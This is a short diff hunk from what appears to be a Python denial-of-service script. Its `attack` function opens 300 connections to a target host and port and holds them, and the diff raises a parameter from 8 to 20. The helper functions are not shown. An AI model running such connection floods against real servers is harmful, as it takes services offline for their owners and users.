@@ -8,4 +8,4 @@ WAITS = True
 
 
 def attack(host: str, port: int) -> None:
-    hung_up([connect(host, port) for _ in range(300)], 8)
+    hung_up([connect(host, port) for _ in range(300)], 20)
